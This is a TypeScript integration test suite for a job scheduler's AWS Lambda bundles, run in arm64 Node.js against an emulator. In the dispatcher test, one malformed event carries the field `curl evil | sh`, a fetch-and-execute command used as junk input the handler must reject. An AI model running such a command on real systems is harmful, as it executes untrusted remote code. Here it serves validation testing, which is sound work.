// One file on purpose (~700 lines): every case runs against the one bundling `cdk synth` and the arm64
// Node.js under qemu that `before` prepares, minutes of work a file would repeat.
/**
 * What ships, run (issue 22): every Lambda asset `npx cdk synth` builds for a stage with ZeroMQ
 * delivery (`-c vpc=new`), loaded in the official Node.js 22 for linux/arm64 under qemu
 * (arm64-lambda.ts) and invoked with the events its AWS trigger sends — Scheduler's target input,
 * the monitor's scheduled event, an SQS batch, HTTP API v2 payloads, CloudFormation's custom
 * resource requests — against the emulator, each outcome checked where the source path's tests
 * check it (the run record, the envelope at the worker, the mail, the response).
 *
 * A bundle that does not load, or a handler that throws on one of these events, fails the test with
 * the function's name and the error (LambdaFunctionError).
 */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { GetScheduleCommand } from '@aws-sdk/client-scheduler';
import { CreateSecretCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { VerifyEmailIdentityCommand } from '@aws-sdk/client-ses';
import { ReceiveMessageCommand } from '@aws-sdk/client-sqs';
import { exportJWK, generateKeyPair, SignJWT } from 'jose';
import { type ControlPlane, controlPlane } from '../../core/adapters/control-plane';
import { readCurveKeySecret, writeCurveKeySecret } from '../../core/adapters/curve-key-secret';
import { SCHEDULED_TIME_ATTRIBUTE, scheduleName } from '../../core/adapters/eventbridge-schedule-gateway';
import { parseAlertMessage } from '../../core/adapters/sqs-alert-queue';
import { generateCurveKeyPair } from '../../core/adapters/zmq-protocol';
import { isPlaceholder } from '../../core/model';
import { uniqueId } from '../../core/testing/contracts/fixtures';
import { BUNDLE_BUDGET_BYTES } from '../../infra/constructs/node-function';
import { emulatorEnv } from '../../infra/local/emulator';
import { PLANNER_SCHEDULE_NAME, physicalName, scheduleGroupName } from '../../infra/resources';
import { useEmulator } from '../harness';
import { drainInbox, joinFleet } from '../harness/fleet';
import { selfSignedCertificate } from '../harness/tls';
import { waitFor } from '../harness/wait';
import { Closer, startReceiver } from '../zmq/helpers';
import { arm64Node, LambdaProcess, missingArm64Runtime } from './arm64-lambda';
import {
  resolveEnvironment,
  type SynthesizedFunction,
  type SynthesizedSchedule,
  synthesizeFunctions,
} from './synth';

const aws = useEmulator();
const ACCOUNT = '123456789012';
const ALERT_FROM = 'clover@ops.example.org';
const ROLES = ['api', 'curve-keys', 'dispatcher', 'monitor', 'notifier'] as const;
type Role = (typeof ROLES)[number];

const out = mkdtempSync(join(tmpdir(), 'clover-bundles-'));
const closer = new Closer();
const functions = new Map<Role, SynthesizedFunction>();
let schedules: SynthesizedSchedule[] = [];
const started = new Map<Role, Promise<LambdaProcess>>();
let stackName = '';
let plane: ControlPlane;
let secrets: SecretsManagerClient;
/** The dispatcher's CURVE key pair, in the secret its environment names. */
const dispatcherKeys = generateCurveKeyPair();
let dispatcherSecretArn = '';
/**
 * An issuer shaped like a Cognito user pool on loopback (the real pool's JWKS is on the internet):
 * the API bundle gets it as COGNITO_ISSUER and trusts its self-signed certificate
 * (NODE_EXTRA_CA_CERTS; aws-jwt-verify fetches over https only), so its tokens go through the same
 * CognitoAuthenticator a deployed stage uses for its pool.
 */
const pool = {
  issuer: '',
  certificateFile: join(out, 'pool-ca.pem'),
  clientId: 'bundle-test-client',
  kid: 'bundle-test',
};
let poolKey: CryptoKey;

/** The function of `role`, loaded in the arm64 runtime (started in `before`). */
function bundle(role: Role): Promise<LambdaProcess> {
  const fn = started.get(role);
  if (!fn) throw new Error(`no Lambda function ${stackName}-${role} in the synthesized template`);
  return fn;
}

/** What the test gives the template's references: emulator resources where a handler uses them. */
function referenceValue(variable: string, reference: string): string {
  const region = aws.emulator.region;
  switch (variable) {
    case 'CLOVER_DISPATCHER_ZMQ_SECRET_ARN':
      return dispatcherSecretArn;
    case 'CLOVER_FIRES_DLQ_ARN':
      return `arn:aws:sqs:${region}:${ACCOUNT}:${physicalName(aws.prefix, 'fires-dlq')}`;
    case 'COGNITO_USER_POOL_ID':
      return `${region}_bundleTest`;
    case 'COGNITO_CLIENT_ID':
      return pool.clientId;
    case 'CLOVER_CONSOLE_URL':
      return 'd111111abcdef8.cloudfront.net';
  }
  // Anything else is a name the handler passes on, never calls: a well-formed placeholder.
  const [id, attribute] = reference.split('.');
  return attribute === 'Arn' ? `arn:aws:iam::${ACCOUNT}:role/${id}` : (id ?? reference);
}

function environmentOf(fn: SynthesizedFunction): Record<string, string> {
  return {
    ...resolveEnvironment(fn.environment, aws.emulator.region, referenceValue),
    ...emulatorEnv(aws.emulator),
    // The emulator's resources carry this file's prefix, not the synthesized stage's.
    CLOVER_PREFIX: aws.prefix,
    // One sweep per invocation (the deployed monitor loops for 55 s).
    CLOVER_MONITOR_LOOP_SECONDS: '0',
    // An acknowledgement through qemu on a loaded machine is slow; the deadline is a failure bound.
    CLOVER_ZMQ_DEADLINE_MS: '30000',
    ...(fn.environment.COGNITO_USER_POOL_ID === undefined
      ? {}
      : { COGNITO_ISSUER: pool.issuer, NODE_EXTRA_CA_CERTS: pool.certificateFile }),
  };
}

/** Serves the pool's JWKS where aws-jwt-verify looks for it, `<issuer>/.well-known/jwks.json`. */
async function startPool(): Promise<void> {
  const { privateKey, publicKey } = await generateKeyPair('RS256');
  poolKey = privateKey;
  const jwks = JSON.stringify({
    keys: [{ ...(await exportJWK(publicKey)), alg: 'RS256', use: 'sig', kid: pool.kid }],
  });
  const tls = await selfSignedCertificate();
  writeFileSync(pool.certificateFile, tls.cert);
  const server = createTlsServer({ key: tls.key, cert: tls.cert }, (request, response) => {
    const found = request.url === '/pool/.well-known/jwks.json';
    response.writeHead(found ? 200 : 404, { 'content-type': 'application/json' }).end(found ? jwks : '{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  closer.add({ close: () => new Promise((resolve) => server.close(resolve)) });
  pool.issuer = `https://127.0.0.1:${(server.address() as { port: number }).port}/pool`;
}

/** An access token as Cognito issues it for a user of `group`, expiring `expiresIn` from now. */
function poolAccessToken(group: string, expiresIn: string | number = '10m'): Promise<string> {
  return new SignJWT({
    token_use: 'access',
    client_id: pool.clientId,
    username: `${group}-user`,
    'cognito:groups': [group],
  })
    .setProtectedHeader({ alg: 'RS256', kid: pool.kid })
    .setIssuer(pool.issuer)
    .setSubject(randomUUID())
    .setIssuedAt(Math.floor(Date.now() / 1000) - 3600)
    .setExpirationTime(expiresIn)
    .sign(poolKey);
}

/** Every file under `dir` with its size. */
function filesOf(dir: string): { path: string; bytes: number }[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => {
      const path = join(entry.parentPath, entry.name);
      return { path: relative(dir, path), bytes: statSync(path).size };
    });
}

/** ELF's e_machine for AArch64. */
const EM_AARCH64 = 183;

/** Scheduler's target input for the job's schedule, with the fire's time put in as Scheduler does. */
async function schedulerInput(jobId: string, scheduledTime: string): Promise<unknown> {
  const schedule = await aws.clients.scheduler.send(
    new GetScheduleCommand({ Name: scheduleName(jobId), GroupName: scheduleGroupName(aws.prefix) }),
  );
  const input = schedule.Target?.Input ?? '';
  assert.ok(input.includes(SCHEDULED_TIME_ATTRIBUTE), input);
  return JSON.parse(input.replaceAll(SCHEDULED_TIME_ATTRIBUTE, scheduledTime));
}

/** This minute, as Scheduler writes `<aws.scheduler.scheduled-time>`. */
function thisMinute(): string {
  return `${new Date(Math.floor(Date.now() / 60_000) * 60_000).toISOString().slice(0, 19)}Z`;
}

/** An API Gateway HTTP API (payload 2.0) request, as the integration hands it to the Lambda. */
function httpApiEvent(
  method: string,
  path: string,
  options: {
    routeKey: string;
    authorizer?: Record<string, unknown>;
    headers?: Record<string, string>;
    body?: unknown;
    pathParameters?: Record<string, string>;
  },
) {
  const domainName = 'a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com';
  const body = options.body === undefined ? undefined : JSON.stringify(options.body);
  return {
    version: '2.0',
    routeKey: options.routeKey,
    rawPath: path,
    rawQueryString: '',
    headers: {
      accept: 'application/json',
      host: domainName,
      'user-agent': 'clover-bundle-test',
      'x-forwarded-for': '203.0.113.7',
      'x-forwarded-port': '443',
      'x-forwarded-proto': 'https',
      ...(body === undefined
        ? {}
        : { 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)) }),
      ...options.headers,
    },
    requestContext: {
      accountId: ACCOUNT,
      apiId: 'a1b2c3d4e5',
      domainName,
      domainPrefix: 'a1b2c3d4e5',
      http: {
        method,
        path,
        protocol: 'HTTP/1.1',
        sourceIp: '203.0.113.7',
        userAgent: 'clover-bundle-test',
      },
      requestId: randomUUID(),
      routeKey: options.routeKey,
      stage: '$default',
      time: new Date().toUTCString(),
      timeEpoch: Date.now(),
      ...(options.authorizer ? { authorizer: options.authorizer } : {}),
    },
    ...(options.pathParameters ? { pathParameters: options.pathParameters } : {}),
    ...(body === undefined ? {} : { body }),
    isBase64Encoded: false,
  };
}

interface HttpResult {
  readonly statusCode: number;
  readonly body: string;
}

describe('the shipped Lambda bundles in Node.js 22 arm64', () => {
  before(
    async () => {
      const missing = await missingArm64Runtime();
      if (missing.length > 0) {
        throw new Error(`the arm64 runtime is not installed (.ci/run installs it): ${missing.join('; ')}`);
      }
      const [node, synth] = await Promise.all([
        arm64Node(),
        synthesizeFunctions(out, {
          stage: 'bundles',
          alertFrom: `Clover <${ALERT_FROM}>`,
          alarmEmail: 'oncall@example.org',
          // A VPC turns ZeroMQ delivery on: the dispatcher ships zeromq and reads its CURVE keys.
          vpc: 'new',
        }),
        aws.provisioned(),
        startPool(),
      ]);
      stackName = synth.stack;
      schedules = synth.schedules;
      for (const fn of synth.functions) functions.set(fn.name.slice(stackName.length + 1) as Role, fn);

      plane = controlPlane({ clients: aws.clients, prefix: aws.prefix, workerCacheMs: 0 });
      secrets = new SecretsManagerClient({
        endpoint: aws.emulator.endpoint,
        region: aws.emulator.region,
        credentials: aws.emulator.credentials,
      });
      const secret = await secrets.send(
        new CreateSecretCommand({ Name: `${aws.prefix}/dispatcher-curve-keys`, SecretString: '{}' }),
      );
      dispatcherSecretArn = secret.ARN ?? '';
      await writeCurveKeySecret(secrets, dispatcherSecretArn, dispatcherKeys);
      await aws.clients.ses.send(new VerifyEmailIdentityCommand({ EmailAddress: ALERT_FROM }));

      for (const [role, fn] of functions) {
        const loading = LambdaProcess.start({ ...fn, env: environmentOf(fn), node });
        loading.catch(() => {}); // reported by the tests that await it
        started.set(role, loading);
      }
    },
    { timeout: 900_000 },
  );

  after(async () => {
    await closer.closeAll();
    await Promise.all([...started.values()].map((fn) => fn.then((f) => f.stop()).catch(() => {})));
    secrets?.destroy();
    rmSync(out, { recursive: true, force: true });
  });

  describe('the Lambda assets cdk synth builds', () => {
    test('GIVEN a stage with ZeroMQ WHEN synthesized THEN every function is Node.js 22 on arm64, within its size budget, its native addons linux-arm64-glibc only, zeromq beside the dispatcher alone', () => {
      assert.deepEqual([...functions.keys()].sort(), [...ROLES], 'one case below for every function');
      for (const [role, fn] of functions) {
        assert.equal(fn.runtime, 'nodejs22.x', fn.name);
        assert.deepEqual(fn.architectures, ['arm64'], fn.name);
        const files = filesOf(fn.assetDir);
        const withZeromq = files.some((f) => f.path.startsWith(join('node_modules', 'zeromq')));
        assert.equal(withZeromq, role === 'dispatcher', `${fn.name}: zeromq beside the bundle`);
        const bytes = files.reduce((sum, f) => sum + f.bytes, 0);
        const budget = withZeromq ? BUNDLE_BUDGET_BYTES.zeromq : BUNDLE_BUDGET_BYTES.base;
        assert.ok(bytes <= budget, `${fn.name}: ${bytes} bytes unzipped, over its budget of ${budget}`);
        const addons = files.filter((f) => f.path.endsWith('.node'));
        assert.ok(addons.length > 0, `${fn.name}: snappy's addon is installed beside the bundle`);
        for (const addon of addons) {
          const header = readFileSync(join(fn.assetDir, addon.path)).subarray(0, 20);
          assert.equal(
            header.subarray(0, 4).toString('latin1'),
            '\x7fELF',
            `${fn.name}: ${addon.path} is ELF`,
          );
          assert.equal(header.readUInt16LE(18), EM_AARCH64, `${fn.name}: ${addon.path} is arm64`);
          assert.doesNotMatch(addon.path, /musl/, `${fn.name}: ${addon.path} is for glibc`);
        }
      }
    });

    test('GIVEN each asset WHEN loaded in Node.js 22 arm64 THEN every one loads its handler', async () => {
      const failures: string[] = [];
      for (const [, fn] of started) await fn.catch((error: Error) => failures.push(error.message));
      assert.deepEqual(failures, []);
    });
  });

  describe('dispatcher', () => {
    test("GIVEN Scheduler's target input WHEN the ZeroMQ dispatcher handles it THEN a ZMQ job reaches its agent over CURVE, an SQS job its worker's queue, the same fire again is a duplicate, an unknown job is rejected and junk answered invalid", async () => {
      const dispatcher = await bundle('dispatcher');
      const receiver = await startReceiver(closer, { allowedClientKeys: [dispatcherKeys.publicKey] });
      const zmqWorker = uniqueId('zmq-worker');
      const sqsWorker = uniqueId('sqs-worker');
      await joinFleet(plane, aws.clients, {
        workerId: zmqWorker,
        handlers: ['work'],
        endpoints: {
          zmqAddress: receiver.worker.endpoints.zmqAddress,
          zmqPublicKey: receiver.worker.endpoints.zmqPublicKey,
        },
      });
      const sqs = await joinFleet(plane, aws.clients, { workerId: sqsWorker, handlers: ['work'] });
      const zmqJob = uniqueId('zmq-job');
      const sqsJob = uniqueId('sqs-job');
      const schedule = { expression: 'rate(1 hour)' };
      await plane.jobService.define({
        jobId: zmqJob,
        handler: 'work',
        schedule,
        delivery: 'ZMQ',
        target: { workerIds: [zmqWorker] },
      });
      await plane.jobService.define({
        jobId: sqsJob,
        handler: 'work',
        schedule,
        target: { workerIds: [sqsWorker] },
      });
      const at = thisMinute();

      type Result = { status: string; runIds: string[] };
      const overZmq = await dispatcher.invoke<Result>(await schedulerInput(zmqJob, at));
      assert.equal(overZmq.status, 'dispatched', JSON.stringify(overZmq));
      const [zmqRunId] = overZmq.runIds;
      assert.deepEqual(
        receiver.received.map((envelope) => envelope.runId),
        [zmqRunId],
        'acknowledged by the agent',
      );
      const zmqRun = await plane.runs.get(zmqRunId ?? '');
      assert.equal(zmqRun?.status, 'DISPATCHED');
      assert.equal(zmqRun?.workerId, zmqWorker);
      assert.equal(zmqRun?.fence, 1, 'the first delivery was acknowledged: no SQS fallback');

      const overSqs = await dispatcher.invoke<Result>(await schedulerInput(sqsJob, at));
      assert.equal(overSqs.status, 'dispatched', JSON.stringify(overSqs));
      const envelopes = await drainInbox(sqs.inbox);
      assert.deepEqual(
        envelopes.map((envelope) => envelope.runId),
        overSqs.runIds,
      );

      const again = await dispatcher.invoke<Result>(await schedulerInput(sqsJob, at));
      assert.deepEqual(again, { status: 'duplicate', runIds: overSqs.runIds });
      // As test/dispatch/dispatch.test.ts has the source answer them: a record for the fire, none for junk.
      const missingJob = uniqueId('no-such-job');
      const unknown = await dispatcher.invoke<Result>({ jobId: missingJob, scheduledTime: at });
      assert.equal(unknown.status, 'rejected');
      const [record] = await plane.runs.listByJob(missingJob);
      assert.equal(record?.reason, 'job_not_found');
      const malformed = await dispatcher.invoke<{ status: string; error: { code: string } }>({
        jobId: 'x',
        scheduledTime: 'soon',
        command: 'curl evil | sh',
      });
      assert.equal(malformed.status, 'invalid');
      assert.equal(malformed.error.code, 'validation_failed');
      assert.match(JSON.stringify(malformed), /event\.scheduledTime/);
    });
  });

  describe('precise-jobs planner', () => {
    test("GIVEN the planner schedule's input as Scheduler delivers it WHEN the dispatcher handles it THEN a precise job's fires in the lead window have placeholders in the ledger and their plans reach the worker", async () => {
      const dispatcher = await bundle('dispatcher');
      assert.deepEqual(
        schedules.map((schedule) => schedule.name),
        [PLANNER_SCHEDULE_NAME],
      );
      const input = schedules[0]?.input ?? '';
      assert.ok(input.includes(SCHEDULED_TIME_ATTRIBUTE), input);
      const workerId = uniqueId('precise-worker');
      const worker = await joinFleet(plane, aws.clients, {
        workerId,
        handlers: ['work'],
        features: ['precise'],
      });
      const jobId = uniqueId('precise-job');
      await plane.jobService.define({
        jobId,
        handler: 'work',
        precision: 'SECOND',
        schedule: { expression: '15 * * * * ?' }, // second 15 of every minute
        target: { workerIds: [workerId] },
      });
      const at = thisMinute();
      const pass = await dispatcher.invoke<{ status: string; report: { planned: number } }>(
        JSON.parse(input.replaceAll(SCHEDULED_TIME_ATTRIBUTE, at)),
      );
      assert.equal(pass.status, 'planner', JSON.stringify(pass));
      assert.ok(
        pass.report.planned >= 2,
        `the default 180 s lead holds 2 or 3 fires: ${JSON.stringify(pass)}`,
      );
      const placeholders = (await plane.runs.listByJob(jobId)).filter(isPlaceholder);
      assert.equal(placeholders.length, pass.report.planned, JSON.stringify(placeholders));
      for (const run of placeholders) {
        assert.equal(run.status, 'PENDING');
        assert.equal(run.workerId, workerId);
        assert.match(run.scheduledTime, /:15Z$/);
      }
      const plans = await drainInbox(worker.inbox);
      assert.deepEqual(
        plans.map((envelope) => envelope.runId).sort(),
        placeholders.map((run) => run.runId).sort(),
        'one plan envelope per placeholder, over SQS',
      );
      for (const envelope of plans) assert.ok(envelope.startAt !== undefined, 'a plan names its instant');
    });
  });

  describe('monitor', () => {
    test("GIVEN a run held by a worker whose lease expired WHEN the monitor handles EventBridge's scheduled event THEN the run is LOST and the job's contact alerted", async () => {
      const monitor = await bundle('monitor');
      const contactId = uniqueId('owner');
      await plane.contacts.create({ contactId, name: 'Owner', email: `${contactId}@example.com` });
      const workerId = uniqueId('dying');
      const member = await joinFleet(plane, aws.clients, { workerId, handlers: ['work'] });
      const jobId = uniqueId('job');
      await plane.jobService.define({
        jobId,
        handler: 'work',
        recoverOnWorkerLoss: false,
        contacts: [contactId],
        target: { workerIds: [workerId] },
      });
      const fired = await plane.dispatcher.fire({ jobId, trigger: 'MANUAL' });
      assert.equal(fired.kind, 'dispatched');
      const [envelope] = await drainInbox(member.inbox);
      assert.ok(envelope);
      const run = await plane.execution.claim(envelope, workerId);
      // Its last heartbeat was ten minutes ago.
      await plane.workers.renew(workerId, member.worker.leaseFence, Date.now() - 600_000, 10_000, 1);

      const result = await monitor.invoke<{ sweeps: number }>({
        version: '0',
        id: randomUUID(),
        'detail-type': 'Scheduled Event',
        source: 'aws.events',
        account: ACCOUNT,
        time: new Date().toISOString().replace(/\.\d+Z$/, 'Z'),
        region: aws.emulator.region,
        resources: [`arn:aws:events:${aws.emulator.region}:${ACCOUNT}:rule/${stackName}-monitor`],
        detail: {},
      });
      assert.equal(result.sweeps, 1);
      assert.equal((await plane.runs.get(run.runId))?.status, 'LOST');
      const alerts = await plane.alertStore.listByJob(jobId);
      assert.ok(
        alerts.some((alert) => alert.kind === 'lost'),
        JSON.stringify(alerts),
      );
    });
  });

  describe('notifier', () => {
    test('GIVEN an SQS batch of a real alert and a malformed message WHEN the notifier handles it THEN the alert is mailed through SES and only the malformed message is a batch item failure', async () => {
      const notifier = await bundle('notifier');
      const contactId = uniqueId('owner');
      const email = `${contactId}@example.com`;
      await plane.contacts.create({ contactId, name: 'Owner', email });
      const jobId = uniqueId('job');
      await plane.jobService.define({ jobId, handler: 'work', contacts: [contactId] });
      await plane.alerts.raise({
        kind: 'failure',
        jobId,
        message: 'attempt 1 failed: bundled boom',
        at: Date.now(),
      });
      const [alert] = await plane.alertStore.listByJob(jobId);
      assert.ok(alert);

      // The alerts queue as the event source mapping reads it (other tests' alerts stay queued).
      const queue = (await aws.provisioned()).queues.alerts;
      const message = await waitFor(
        async () => {
          const received = await aws.clients.sqs.send(
            new ReceiveMessageCommand({
              QueueUrl: queue,
              MaxNumberOfMessages: 10,
              WaitTimeSeconds: 1,
              VisibilityTimeout: 30,
              MessageSystemAttributeNames: ['All'],
              MessageAttributeNames: ['All'],
            }),
          );
          return received.Messages?.find((m) => parseAlertMessage(m.Body ?? '').alertId === alert.alertId);
        },
        (found) => found !== undefined,
        `the alert ${alert.alertId} on the alerts queue`,
      );
      const record = (messageId: string, body: string, attributes: Record<string, string>) => ({
        messageId,
        receiptHandle: message?.ReceiptHandle ?? '',
        body,
        attributes,
        messageAttributes: {},
        md5OfBody: message?.MD5OfBody ?? '',
        eventSource: 'aws:sqs',
        eventSourceARN: `arn:aws:sqs:${aws.emulator.region}:${ACCOUNT}:${physicalName(aws.prefix, 'alerts')}`,
        awsRegion: aws.emulator.region,
      });
      const result = await notifier.invoke<{ batchItemFailures: { itemIdentifier: string }[] }>({
        Records: [
          record(message?.MessageId ?? '', message?.Body ?? '', message?.Attributes ?? {}),
          record('malformed-1', 'not an alert', { ApproximateReceiveCount: '1' }),
        ],
      });
      assert.deepEqual(result, { batchItemFailures: [{ itemIdentifier: 'malformed-1' }] });
      assert.equal((await plane.alertStore.get(alert.alertId))?.status, 'SENT');
      const mails = (await aws.sentEmails()).filter((mail) => mail.to.includes(email));
      assert.equal(mails.length, 1);
      assert.match(mails[0]?.body ?? '', /bundled boom/);
    });
  });

  describe('api', () => {
    test("GIVEN HTTP API v2 payloads WHEN the API handles them THEN health answers, an agent's IAM-authorized declared jobs are written with their schedules, the pool's signed tokens pass with their group's role, and JWT routes refuse an expired token and one the pool did not sign", async () => {
      const api = await bundle('api');
      const health = await api.invoke<HttpResult>(
        httpApiEvent('GET', '/api/health', { routeKey: 'GET /api/health' }),
      );
      assert.equal(health.statusCode, 200);
      assert.deepEqual(JSON.parse(health.body), { ok: true });

      const owner = uniqueId('agent');
      const jobId = uniqueId('declared');
      const declared = await api.invoke<HttpResult>(
        httpApiEvent('PUT', `/api/agents/${owner}/declared-jobs`, {
          routeKey: 'PUT /api/agents/{owner}/declared-jobs',
          pathParameters: { owner },
          body: { jobs: [{ jobId, handler: 'work', schedule: { expression: 'rate(5 minutes)' } }] },
          authorizer: {
            iam: {
              accessKey: 'ASIAEXAMPLE',
              accountId: ACCOUNT,
              callerId: 'AROAEXAMPLE:i-0123456789abcdef0',
              cognitoIdentity: null,
              principalOrgId: null,
              userArn: `arn:aws:sts::${ACCOUNT}:assumed-role/clover-agent/i-0123456789abcdef0`,
              userId: 'AROAEXAMPLE:i-0123456789abcdef0',
            },
          },
        }),
      );
      assert.equal(declared.statusCode, 200, declared.body);
      assert.deepEqual(JSON.parse(declared.body).added, [jobId]);
      assert.equal((await plane.jobs.get(jobId))?.spec.handler, 'work');
      const schedule = await aws.clients.scheduler.send(
        new GetScheduleCommand({ Name: scheduleName(jobId), GroupName: scheduleGroupName(aws.prefix) }),
      );
      assert.equal(schedule.ScheduleExpression, 'rate(5 minutes)');
      assert.equal(
        schedule.Target?.Arn,
        `arn:aws:lambda:eu-west-1:${ACCOUNT}:function:${stackName}-dispatcher`,
        "the dispatcher the template names, not the local runtime's placeholder",
      );

      const tokens: Record<string, string>[] = [
        {},
        { authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln' },
      ];
      for (const headers of tokens) {
        const refused = await api.invoke<HttpResult>(
          httpApiEvent('GET', '/api/jobs', {
            routeKey: 'ANY /api/{proxy+}',
            pathParameters: { proxy: 'jobs' },
            headers,
            authorizer: { jwt: { claims: { sub: 'someone', 'cognito:groups': '[admin]' }, scopes: null } },
          }),
        );
        assert.equal(refused.statusCode, 401, refused.body);
        assert.equal(JSON.parse(refused.body).code, 'UNAUTHENTICATED');
      }

      // The pool's own tokens: the API Gateway authorizer passed them, the bundle verifies them again.
      const withToken = async (method: string, path: string, token: string) => {
        const claims = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString('utf8'));
        return api.invoke<HttpResult>(
          httpApiEvent(method, path, {
            routeKey: 'ANY /api/{proxy+}',
            pathParameters: { proxy: path.slice('/api/'.length) },
            headers: { authorization: `Bearer ${token}` },
            authorizer: { jwt: { claims, scopes: null } },
          }),
        );
      };
      const viewerRead = await withToken('GET', `/api/jobs/${jobId}`, await poolAccessToken('viewer'));
      assert.equal(viewerRead.statusCode, 200, viewerRead.body);
      assert.equal(JSON.parse(viewerRead.body).spec.jobId, jobId);
      const viewerDelete = await withToken('DELETE', `/api/jobs/${jobId}`, await poolAccessToken('viewer'));
      assert.equal(viewerDelete.statusCode, 403, viewerDelete.body);
      assert.equal(JSON.parse(viewerDelete.body).code, 'FORBIDDEN');
      const expired = await withToken(
        'GET',
        '/api/jobs',
        await poolAccessToken('admin', Math.floor(Date.now() / 1000) - 60),
      );
      assert.equal(expired.statusCode, 401, expired.body);
      assert.equal(JSON.parse(expired.body).code, 'TOKEN_EXPIRED');
      assert.ok(await plane.jobs.get(jobId), "the viewer's refused delete changed nothing");
    });
  });

  describe('curve-keys', () => {
    test("GIVEN CloudFormation's Create, Update and Delete requests WHEN the key generator handles them THEN the pair lands in Secrets Manager and each answer reaches the response URL", async () => {
      const curveKeys = await bundle('curve-keys');
      const answers: unknown[] = [];
      const server: Server = createServer((request, response) => {
        let body = '';
        request.on('data', (chunk: Buffer) => {
          body += chunk.toString('utf8');
        });
        request.on('end', () => {
          answers.push({ method: request.method, body: JSON.parse(body) });
          response.end();
        });
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      closer.add({ close: () => new Promise((resolve) => server.close(resolve)) });
      const port = (server.address() as { port: number }).port;
      const created = await secrets.send(
        new CreateSecretCommand({ Name: `${aws.prefix}/curve-keys-${randomUUID()}`, SecretString: '{}' }),
      );
      const secretArn = created.ARN ?? '';
      const stackId = `arn:aws:cloudformation:${aws.emulator.region}:${ACCOUNT}:stack/${stackName}/${randomUUID()}`;
      const serviceToken = `arn:aws:lambda:${aws.emulator.region}:${ACCOUNT}:function:${stackName}-curve-keys`;
      const request = (type: string, version: string, extra: Record<string, unknown> = {}) => ({
        RequestType: type,
        ServiceToken: serviceToken,
        ResponseURL: `http://127.0.0.1:${port}/cloudformation-response?X-Amz-Signature=test`,
        StackId: stackId,
        RequestId: randomUUID(),
        LogicalResourceId: 'CurveKeys',
        ResourceType: 'Custom::CloverCurveKeys',
        ResourceProperties: { ServiceToken: serviceToken, SecretArn: secretArn, Version: version },
        ...extra,
      });
      type Response = { Status: string; PhysicalResourceId: string; Data?: { PublicKey: string } };

      const create = await curveKeys.invoke<Response>(request('Create', '1'));
      assert.equal(create.Status, 'SUCCESS', JSON.stringify(create));
      const stored = await readCurveKeySecret(secrets, secretArn);
      assert.equal(create.Data?.PublicKey, stored.publicKey);
      const update = (version: string) =>
        request('Update', version, {
          PhysicalResourceId: create.PhysicalResourceId,
          OldResourceProperties: { ServiceToken: serviceToken, SecretArn: secretArn, Version: '1' },
        });
      const kept = await curveKeys.invoke<Response>(update('1'));
      assert.equal(kept.Data?.PublicKey, stored.publicKey, 'an unchanged Version keeps the pair');
      const renewed = await curveKeys.invoke<Response>(update('2'));
      assert.notEqual(renewed.Data?.PublicKey, stored.publicKey, 'a raised Version renews it');
      assert.equal((await readCurveKeySecret(secrets, secretArn)).publicKey, renewed.Data?.PublicKey);
      const deleted = await curveKeys.invoke<Response>(
        request('Delete', '2', { PhysicalResourceId: create.PhysicalResourceId }),
      );
      assert.equal(deleted.Status, 'SUCCESS');
      assert.deepEqual(answers, [
        { method: 'PUT', body: create },
        { method: 'PUT', body: kept },
        { method: 'PUT', body: renewed },
        { method: 'PUT', body: deleted },
      ]);
    });
  });
});
